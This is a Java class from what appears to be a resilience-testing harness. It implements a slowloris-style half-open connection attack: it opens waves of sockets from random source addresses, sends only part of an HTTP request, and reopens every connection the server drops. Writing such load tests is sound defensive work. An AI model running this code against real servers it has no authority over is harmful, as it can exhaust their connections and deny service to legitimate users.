package dev.acequia.api;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.time.Duration;
import java.util.Random;

/**
 * A wave of sockets that never say what they want; what the server ends comes back at once. Then it
 * is quiet for a while, so that the other attackers get connections.
 */
final class HalfOpenAttack implements Attack {
  private static final Duration WAVE = Duration.ofSeconds(15);
  private static final Duration CALM = Duration.ofSeconds(10);

  /** As many headers as a request may have, and a half one behind. */
  private static final byte[] HEAD =
      ("GET /v1/records HTTP/1.1\r\nHost: a\r\nX: " + "x".repeat(30_000)).getBytes(US_ASCII);

  private static final int SHORT = 30;

  private final AttackTarget target;
  private final int sockets;

  HalfOpenAttack(AttackTarget target, int sockets) {
    this.target = target;
    this.sockets = sockets;
  }

  @Override
  public int clients() {
    return 1;
  }

  @Override
  public void once(Random random, Tally tally) throws IOException, InterruptedException {
    try (var selector = Selector.open()) {
      try {
        for (var i = 0; i < sockets; i++) {
          open(selector, random);
          tally.count("tried");
        }
        var end = System.nanoTime() + WAVE.toNanos();
        while (!target.isOver() && System.nanoTime() - end < 0) {
          selector.select(200);
          for (var key : selector.selectedKeys()) {
            goOn(key, random, tally);
          }
          selector.selectedKeys().clear();
        }
      } finally {
        for (var key : selector.keys()) {
          key.channel().close();
        }
      }
    }
    target.pause(CALM);
  }

  private void open(Selector selector, Random random) throws IOException {
    var channel = SocketChannel.open();
    channel.configureBlocking(false);
    channel.bind(AttackTarget.source(random));
    channel.connect(new InetSocketAddress(target.host(), AttackTarget.PORT));
    channel.register(selector, SelectionKey.OP_CONNECT);
  }

  private void goOn(SelectionKey key, Random random, Tally tally) throws IOException {
    var channel = (SocketChannel) key.channel();
    try {
      if (key.isConnectable() && channel.finishConnect()) {
        tally.count("connected");
        key.interestOps(SelectionKey.OP_READ);
        var length = random.nextInt(random.nextBoolean() ? SHORT : HEAD.length);
        channel.write(ByteBuffer.wrap(HEAD, 0, length));
      } else if (key.isReadable() && channel.read(ByteBuffer.allocate(1024)) < 0) {
        tally.count("ended by the server");
        channel.close();
        open(key.selector(), random);
      }
    } catch (IOException refused) {
      tally.count("ended by the server");
      channel.close();
      open(key.selector(), random);
    }
  }
}
